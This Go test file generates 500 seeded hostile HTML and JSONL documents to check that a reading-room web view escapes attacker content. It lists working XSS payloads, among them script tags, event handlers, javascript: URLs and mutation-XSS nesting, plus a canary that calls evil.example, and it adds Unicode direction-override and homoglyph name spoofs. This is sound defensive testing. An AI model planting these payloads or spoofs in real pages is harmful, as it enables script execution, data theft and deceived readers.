package web_test

import (
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sayso"
	"sayso/internal/casefile"
	"sayso/internal/intake"
)

// Documents as somebody would make them who wants the reading room to run their
// code, to call home, to lead readers away, to fall apart or to show one name
// for another. They are made by a seed, so that a test that fails fails again.

const hostileDocuments = 500

// canary is what a script of theirs would do: leave a mark, call home, go away.
const canary = `document.documentElement.dataset.ran=1;fetch("http://evil.example/ran");top.location="http://evil.example/away"`

// running are ways to have canary run, or to load something, out of a page.
var running = []string{
	`<script>` + canary + `</script>`,
	`<script src="http://evil.example/x.js"></script><script src=//evil.example/y.js></script>`,
	`<img src=x onerror='` + canary + `'>`,
	`<svg onload='` + canary + `'><script>` + canary + `</script><animate attributeName=href values="javascript:1" /></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror='` + canary + `'></style></mglyph></table></mtext></math>`,
	`<iframe srcdoc="&lt;script&gt;parent.document.documentElement.dataset.ran=1&lt;/script&gt;"></iframe><iframe src="javascript:` + html.EscapeString(canary) + `"></iframe>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">`,
	`<base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/x.css">`,
	`<form action="http://evil.example/post"><input autofocus onfocus='` + canary + `'><button>Accept</button></form>`,
	`<object data="http://evil.example/x.swf"></object><embed src="data:text/html,<script>1</script>">`,
	`<style>@import "http://evil.example/x.css"; main, .receipt { display: none !important } * { position: fixed; inset: 0 }</style>`,
	`<div style="position:fixed;inset:0;z-index:9999;background:url(http://evil.example/bg)">covered</div>`,
	`<a href="javascript:` + html.EscapeString(canary) + `">press</a><a href="data:text/html,<script>1</script>">press</a>`,
	`<video autoplay src="http://evil.example/v" onplay='` + canary + `'></video><audio src="http://evil.example/a" autoplay></audio>`,
	`<template shadowrootmode=open><slot></slot><script>` + canary + `</script></template>`,
	`</title></textarea></noscript></style></script><script>` + canary + `</script>`,
	`<div hx-get="http://evil.example/hx" hx-trigger="load" hx-on:click="` + html.EscapeString(canary) + `" data-key="a" data-card id="main" class="unseen">hx</div>`,
	`{{printf "%s" .}}${` + canary + `}<%= 1 %>`,
}

// spoofs are characters that turn, hide or pile up.
func spoofs(r *rand.Rand) string {
	return []string{
		"Ann \u202egreB\u202c", "\u202e\u202d\u202e ymene eht \u202c", "\u2066Ann\u2069 \u2067Ben\u2069 \u2068Cem", strings.Repeat("\u202b", 40) + "deep",
		"A\u200b\u200bn\u200dn B\u2060er\ufeffg", strings.Repeat("\u200b", 500) + "thin", "Z\u0301" + strings.Repeat("\u0335\u0489\u0327", 120) + "algo",
		"بهرنگ \u202aTalkhab\u202c تلخاب", "\u200f\u200eعلی\u061c رضا", "Аnn Веrg (of other letters)", "\U000e0041\U000e006e tags", "🏴\U000e0067\U000e007f👩\u200d👩\u200d👧",
		"line one \u202e\nline two goes on\u202c\nline three", strings.Repeat("ﷺ", 60), strings.Repeat("﷽", 30),
	}[r.IntN(15)]
}

// floods are words and marks without a place to break.
func floods(r *rand.Rand) string {
	n := []int{200, 3_000, 10_000}[r.IntN(3)]
	return []string{
		strings.Repeat("W", n), strings.Repeat("م", n), strings.Repeat("http://evil.example/", n/20), strings.Repeat("\u00a0x", n/2), strings.Repeat("—_", n/2), strings.Repeat("𒈙", n/4),
	}[r.IntN(6)]
}

// A hostile is a file with what is hostile about it.
type hostile struct {
	name, content string
	turned        bool // it holds characters that turn the direction
}

// hostileFile makes file i.
func hostileFile(i int) hostile {
	r := rand.New(rand.NewPCG(2026, uint64(i)))
	attack, spoof, flood := running[i%len(running)], spoofs(r), floods(r)
	title := fmt.Sprintf("Title %d %s %s", i, spoof, attack)
	if i%25 == 7 {
		title += strings.Repeat(" title", 100<<10/6)
	}
	if i%10 == 3 {
		title += flood
	}
	words := spoof + " is a spy. " + attack + "\n\n" + flood + "\n\n" + "He, " + spoof + ", said: «" + attack + "» \u202e and left\nover two lines\u202c."
	address := []string{"https://outlet.example/" + flood, "javascript:" + canary, "data:text/html," + attack, "https://outlet.example/\u202egnp.exe", "//evil.example"}[i%5]
	if i%2 == 0 {
		line, err := json.Marshal(map[string]string{"id": spoof, "title": title, "text": words, "author": spoof + flood[:20], "source": spoof + " " + attack, "lang": []string{"fa", "en", spoof}[i/2%3], "url": address, "date": "2024-03-0" + fmt.Sprint(i%9+1)})
		if err != nil {
			panic(err)
		}
		return hostile{fmt.Sprintf("%03d %s.jsonl", i, strings.ReplaceAll(safeName(spoof), "/", " ")), string(line) + "\n", true}
	}
	var page strings.Builder
	fmt.Fprintf(&page, "<!doctype html><html lang=\"%s\"><head><title>%s</title>%s<meta name=author content=\"%s\"></head><body %s=\"%s\">", html.EscapeString(spoof), html.EscapeString(title), attack, html.EscapeString(spoof), strings.Repeat("x", 1+r.IntN(5000)), strings.Repeat("y", 20_000))
	nest := r.IntN(400)
	page.WriteString(strings.Repeat("<div>", nest) + attack + strings.Repeat("</div>", nest))
	fmt.Fprintf(&page, "<article><h1>%s</h1>", html.EscapeString(title))
	for range 3 {
		fmt.Fprintf(&page, "<p>It stood in the paper that %s is a spy, as the neighbours were told at some length. %s</p>%s<p>%s</p>", html.EscapeString(spoof), html.EscapeString(attack), attack, html.EscapeString(flood))
	}
	page.WriteString("</article></body></html>")
	return hostile{fmt.Sprintf("%03d.html", i), page.String(), false}
}

// safeName is s as far as a file can have it for a name.
func safeName(s string) string {
	s = strings.Map(func(r rune) rune {
		if r == 0 || r == '/' || r == '\n' {
			return ' '
		}
		return r
	}, s)
	return strings.ToValidUTF8(s[:min(len(s), 100)], "")
}

// hostileCase takes the hostile files in and plants a row in each document, whose
// names are hostile too. It returns the documents.
func hostileCase(t *testing.T) (*casefile.Case, []sayso.Document) {
	t.Helper()
	c := newCase(t)
	dir := t.TempDir()
	var docs []sayso.Document
	var readings []sayso.Extraction
	for i := range hostileDocuments {
		f := hostileFile(i)
		path := filepath.Join(dir, f.name)
		must(t, os.WriteFile(path, []byte(f.content), 0o600))
		for _, d := range add(t, c, path, intake.Options{}) {
			docs = append(docs, d)
			readings = append(readings, hostileReading(d, i))
		}
	}
	put(t, c, readings...)
	return c, docs
}

// hostileReading is a row that calls somebody a spy, with names of the attacker's
// choice.
func hostileReading(d sayso.Document, i int) sayso.Extraction {
	r := rand.New(rand.NewPCG(2027, uint64(i)))
	e := sayso.Extraction{DocumentID: d.ID, Lang: d.Lang}
	at := strings.Index(d.Text, "spy")
	if at < 0 {
		return e
	}
	from := strings.LastIndexByte(d.Text[:at], '\n') + 1
	to := len(d.Text)
	if n := strings.IndexByte(d.Text[at:], '\n'); n >= 0 {
		to = at + n
	}
	s := reading(d, sayso.Statement{
		Target: spoofs(r) + floods(r)[:100*(i%3)], Term: "spy", Concept: "spy", Speaker: running[i%len(running)] + spoofs(r), ReportedBy: []string{spoofs(r)},
		Stance: sayso.Stances()[i%4], Evidence: d.Text[from:to],
	})
	s.EvidenceAt, s.TermAt = sayso.SpanOf(d.Text, from, to), sayso.SpanOf(d.Text, at, at+len("spy"))
	e.Statements = []sayso.Statement{s}
	return e
}
